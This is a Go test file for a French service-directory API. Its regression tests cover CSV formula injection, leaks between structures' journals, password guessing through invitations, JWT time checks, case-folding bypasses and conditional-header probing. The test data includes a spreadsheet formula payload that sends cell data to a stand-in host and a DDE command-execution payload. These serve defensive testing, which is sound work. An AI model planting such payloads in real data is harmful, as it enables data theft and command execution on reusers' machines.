package api_test

import (
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/golang-jwt/jwt/v5"

	"carnet/api"
	"carnet/api/apitest"
	"carnet/models"
)

// TestExportCellsNeverFormulas: the open data CSV export protected the
// free-text columns it knew of (names, addresses, presentations) but not
// the others a writer fills freely: a structure's manager setting its
// « producer » to =HYPERLINK(…), or a partner its source_id, put a formula
// in the « source » or « id » cell of the public file that every reuser
// opens in a spreadsheet.
func TestExportCellsNeverFormulas(t *testing.T) {
	e := apitest.New(t)
	a := str(createActor(t, e, validActor("Médiathèque"))["id"])
	createService(t, e, merge(validService(a, "Atelier"), obj{"status": "published"}))
	_, mgr := e.Account("gestion@example.fr", map[string]models.Role{a: models.RoleManager}, models.Territory{})
	formula := `=HYPERLINK("http://x.example/?"&A1,"Cliquez")`
	if r := e.Do(apitest.Request{Method: "PATCH", Path: "/api/v1/actors/" + a, Token: mgr, ContentType: "application/merge-patch+json",
		Body: obj{"producer": formula}}); r.Code != 200 {
		t.Fatalf("producer: %d %s", r.Code, r.Body)
	}
	_, partner := e.Partner("Hub", []string{"hub"}, []string{models.ScopeSyncWrite, models.ScopeDirectoryWrite})
	if r := e.Do(apitest.Request{Method: "PUT", Path: "/api/v1/sync/hub/actors", Token: partner,
		Body: obj{"actors": []obj{partnerActor("+cmd|' /C calc'!A0", "Point hub")}}}); r.Code != 200 {
		t.Fatalf("sync: %d %s", r.Code, r.Body)
	}
	for _, f := range []string{"standard-csv", "quality-csv"} {
		r := e.Do(apitest.Request{Method: "GET", Path: "/api/v1/exports/" + f})
		rows, err := csv.NewReader(strings.NewReader(r.Body.String())).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", f, err)
		}
		for _, row := range rows[1:] {
			for i, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) && !strings.HasPrefix(cell, "+33") {
					t.Errorf("%s: column %s starts a formula: %q", f, rows[0][i], cell)
				}
			}
		}
	}
}

// TestTrailKeepsOtherStructuresResets: a structure's journal shows its
// members' account events, and a reset link issued by another structure's
// manager is one (account.password_reset_issued, with that structure's id
// and its manager's login e-mail). Once the person joined a second
// structure, the managers of the second read in its journal which other
// structure they belong to and the login e-mail of its manager — what
// TestTrailKeepsOtherTeamsPrivate keeps private for team events.
func TestTrailKeepsOtherStructuresResets(t *testing.T) {
	e := apitest.New(t)
	own := str(createActor(t, e, validActor("Médiathèque"))["id"])
	other := str(createActor(t, e, validActor("CCAS secret"))["id"])
	_, mgr := e.Account("mgr@example.fr", map[string]models.Role{own: models.RoleManager}, models.Territory{})
	otherMgr, otherTok := e.Account("directrice.ccas@example.fr", map[string]models.Role{other: models.RoleManager}, models.Territory{})
	both, _ := e.Account("both@example.fr", map[string]models.Role{other: models.RoleMember}, models.Territory{})
	if r := e.Do(apitest.Request{Method: "POST", Path: "/api/v1/users/" + both.ID + "/password-reset", Token: otherTok, Body: obj{}}); r.Code != 201 {
		t.Fatal(r.Code, r.Body)
	}
	if _, err := e.Store.AddMember(t.Context(), own, both.ID, models.RoleMember); err != nil {
		t.Fatal(err)
	}
	// An account event once a member: the structure sees it.
	if r := e.Do(apitest.Request{Method: "PATCH", Path: "/api/v1/users/" + both.ID, Token: e.Admin, Body: obj{"display_name": "Deux Maisons"}}); r.Code != 200 {
		t.Fatal(r.Code, r.Body)
	}
	r := e.Do(apitest.Request{Method: "GET", Path: "/api/v1/actors/" + own + "/trail?limit=200", Token: mgr})
	if r.Code != 200 {
		t.Fatal(r.Code, r.Body)
	}
	for _, leak := range []string{other, otherMgr.Email} {
		if strings.Contains(r.Body.String(), leak) {
			t.Errorf("the journal of one structure shows another's events about a member (%s): %s", leak, r.Body)
		}
	}
	if !strings.Contains(r.Body.String(), `"action":"account.updated"`) {
		t.Errorf("the member's account event since joining is missing: %s", r.Body)
	}
	// The other structure's journal keeps its reset link.
	r = e.Do(apitest.Request{Method: "GET", Path: "/api/v1/actors/" + other + "/trail?action=account.password_reset_issued", Token: otherTok})
	if r.Code != 200 || !strings.Contains(r.Body.String(), both.ID) {
		t.Errorf("the issuing structure's journal lost its reset link: %d %s", r.Code, r.Body)
	}
}

// TestInvitationAcceptCountsAgainstTheAccount: accepting an invitation
// addressed to an existing account checks that account's password. The
// check was limited per client address only, so whoever holds an
// invitation token for someone's e-mail (its sender, when the service
// does not send e-mail and shows the token) could guess that person's
// password from many addresses, past the per-account limit that protects
// the login. The attempts now count against the account, as a login's do.
func TestInvitationAcceptCountsAgainstTheAccount(t *testing.T) {
	e := apitest.New(t, apitest.WithRateLimits(api.RateLimit{Every: time.Millisecond, Burst: 1000}, api.RateLimit{Every: time.Hour, Burst: 3}))
	own := str(createActor(t, e, validActor("Médiathèque"))["id"])
	_, mgr := e.Account("mgr@example.fr", map[string]models.Role{own: models.RoleManager}, models.Territory{})
	e.Account("victime@example.fr", nil, models.Territory{})
	r := e.Do(apitest.Request{Method: "POST", Path: "/api/v1/actors/" + own + "/members", Token: mgr, Body: obj{"email": "victime@example.fr", "role": "member"}})
	if r.Code != 202 {
		t.Fatal(r.Code, r.Body)
	}
	token := str(r.Map()["token"])
	if token == "" {
		t.Fatalf("no token shown: %s", r.Body)
	}
	codes := []int{}
	for i := range 5 {
		r := e.Do(apitest.Request{Method: "POST", Path: "/api/v1/invitations/accept", Body: obj{"token": token, "password": "une devinette numéro " + str(i)}})
		codes = append(codes, r.Code)
	}
	if codes[3] != 429 || codes[4] != 429 {
		t.Errorf("guesses of an account's password through an invitation: %v, want 429 after 3", codes)
	}
	// The login of that account shares the budget.
	if r := e.Do(apitest.Request{Method: "POST", Path: "/api/v1/auth/login", Body: obj{"email": "victime@example.fr", "password": "une autre devinette"}}); r.Code != 429 {
		t.Errorf("login after the guesses: %d", r.Code)
	}
}

// TestTrailKeepsLoginEmailsPrivate: a member who joined a structure after
// a referral was sent leaves a trace when reading it, in the journals of
// both structures. The other structure's journal named the reader by their
// login e-mail, which stays private to other structures (a referral names
// people by their display name and the professional contact they share).
func TestTrailKeepsLoginEmailsPrivate(t *testing.T) {
	w := newWorld(t)
	e := w.e
	ref := w.referral(w.users["member"], w.own, w.otherSvc)
	late, lateTok := e.Account("connexion.privee@carnet.test", map[string]models.Role{w.other: models.RoleMember}, models.Territory{})
	name := "Camille Arrivée"
	if _, err := e.Store.UpdateProfile(t.Context(), late.ID, models.ProfileUpdate{DisplayName: &name}); err != nil {
		t.Fatal(err)
	}
	if r := e.Do(apitest.Request{Method: "GET", Path: "/api/v1/referrals/" + ref, Token: lateTok}); r.Code != 200 {
		t.Fatal(r.Code, r.Body)
	}
	r := e.Do(apitest.Request{Method: "GET", Path: "/api/v1/actors/" + w.own + "/trail?action=referral.read", Token: w.tokens["manager"]})
	var trail struct {
		Data []struct {
			Who struct{ ID, Label string } `json:"who"`
		} `json:"data"`
	}
	r.JSON(&trail)
	if r.Code != 200 || len(trail.Data) != 1 || trail.Data[0].Who.ID != late.ID || trail.Data[0].Who.Label != name {
		t.Errorf("the sender's journal of the read: %d %s", r.Code, r.Body)
	}
	if strings.Contains(r.Body.String(), late.Email) {
		t.Errorf("another structure's journal shows the reader's login e-mail: %s", r.Body)
	}
}

// TestTokenTimesOutsideTheLeeway pins what the forged-token tables left
// out: a token issued in the future (iat), or expired by more than the 30
// seconds of clock skew the parser allows, is refused; within the skew it
// is still read.
func TestTokenTimesOutsideTheLeeway(t *testing.T) {
	e := apitest.New(t)
	sess, err := e.Store.OpenSession(t.Context(), e.AdminUser.ID, time.Hour)
	if err != nil {
		t.Fatal(err)
	}
	now := time.Now()
	sign := func(iat, exp time.Time) string {
		tok := jwt.NewWithClaims(jwt.SigningMethodHS256, jwt.MapClaims{"iss": "carnet-test", "aud": "carnet-test-api", "sub": e.AdminUser.ID,
			"kind": "user", "sid": sess.ID, "iat": iat.Unix(), "exp": exp.Unix()})
		tok.Header["kid"] = probeKid(e.Admin)
		s, err := tok.SignedString([]byte(strings.Repeat("k", 48)))
		if err != nil {
			t.Fatal(err)
		}
		return s
	}
	for _, c := range []struct {
		name     string
		iat, exp time.Time
		want     int
	}{
		{"issued in an hour", now.Add(time.Hour), now.Add(2 * time.Hour), 401},
		{"issued in a minute", now.Add(time.Minute), now.Add(time.Hour), 401},
		{"expired 31 s ago", now.Add(-time.Hour), now.Add(-31 * time.Second), 401},
		{"expired 1 s ago, within the skew", now.Add(-time.Hour), now.Add(-time.Second), 200},
		{"issued now", now, now.Add(time.Minute), 200},
	} {
		if r := e.Do(apitest.Request{Method: "GET", Path: "/api/v1/me", Token: sign(c.iat, c.exp)}); r.Code != c.want {
			t.Errorf("%s: %d, want %d", c.name, r.Code, c.want)
		}
	}
}

// TestSuggestionFieldNamesAreExact: suggestions may not change a place's
// closure (nor its source or status), and the check looked for those
// exact names among the changes, while JSON decoding matches field names
// without regard to case (and folds ſ to s, K to k): {"Closed_until": …}
// or {"cloſure_reason": …} passed the check and, the field being empty,
// changed it once accepted.
func TestSuggestionFieldNamesAreExact(t *testing.T) {
	e := apitest.New(t)
	a := str(createActor(t, e, merge(validActor("Médiathèque"), obj{"status": "temporarily_closed", "closed_from": "2026-01-05"}))["id"])
	author := userToken(t, e, "usager@example.fr")
	for _, changes := range []obj{
		{"Closed_until": "2026-01-06"},
		{"CLOSURE_REASON": "Fermé pour toujours"},
		{"cloſure_reason": "Fermé pour toujours"},
		{"Source": "caf-13", "Source_id": "x"},
		{"Name": "Autre nom"},
	} {
		r := e.Do(apitest.Request{Method: "POST", Path: "/api/v1/actors/" + a + "/suggestions", Token: author, Body: obj{"changes": changes}})
		if r.Code != 422 && r.Code != 400 {
			t.Errorf("%v: %d %s", changes, r.Code, r.Body)
			if r.Code == 201 {
				e.Do(apitest.Request{Method: "PATCH", Path: "/api/v1/suggestions/" + str(r.Map()["id"]), Token: e.Admin, Body: obj{"status": "accepted"}})
			}
		}
	}
	got := e.Do(apitest.Request{Method: "GET", Path: "/api/v1/actors/" + a}).Map()
	if str(got["closed_until"]) != "<nil>" && got["closed_until"] != "" || got["closure_reason"] != "" && got["closure_reason"] != nil || got["source"] != nil && got["source"] != "" {
		t.Errorf("a suggestion changed what suggestions may not: closed_until %v, closure_reason %v, source %v", got["closed_until"], got["closure_reason"], got["source"])
	}
}

// TestConditionalHeadersRevealNothing pins that a precondition never
// answers before the caller's rights: an outsider sending If-Match or
// If-None-Match with a draft service or a referral of others gets the same
// 404 (or a partner's 403) as without them, never a 412 or a 304 telling
// the record exists or its version.
func TestConditionalHeadersRevealNothing(t *testing.T) {
	w := newWorld(t)
	e := w.e
	draft := str(createService(t, e, merge(validService(w.other, "Brouillon secret"), obj{"status": "draft"}))["id"])
	ref := w.referral(w.otherMbr, w.other, w.thirdSvc())
	reqs := []apitest.Request{
		{Method: "GET", Path: "/api/v1/services/" + draft},
		{Method: "PATCH", Path: "/api/v1/services/" + draft, Body: obj{"name": "x"}},
		{Method: "PUT", Path: "/api/v1/services/" + draft, Body: validService(w.other, "x")},
		{Method: "DELETE", Path: "/api/v1/services/" + draft},
		{Method: "GET", Path: "/api/v1/referrals/" + ref},
		{Method: "POST", Path: "/api/v1/referrals/" + ref + "/transitions", Body: obj{"status": "accepted"}},
		{Method: "POST", Path: "/api/v1/referrals/" + ref + "/forward", Body: obj{"to_service_id": w.ownSvc}},
	}
	for _, role := range []string{"manager", "member", "coordinator", "user", "partner"} {
		for _, rq := range reqs {
			rq.Token = w.tokens[role]
			plain := e.Do(rq).Code
			if plain != 404 && plain != 403 {
				t.Errorf("%s %s %s: %d", role, rq.Method, rq.Path, plain)
			}
			for _, h := range []map[string]string{{"If-Match": `"999"`}, {"If-Match": `"1"`}, {"If-None-Match": `"1"`}, {"If-None-Match": "*"}} {
				rq.Header = h
				if r := e.Do(rq); r.Code != plain {
					t.Errorf("%s %s %s %v: %d, without it %d", role, rq.Method, rq.Path, h, r.Code, plain)
				}
			}
		}
	}
}
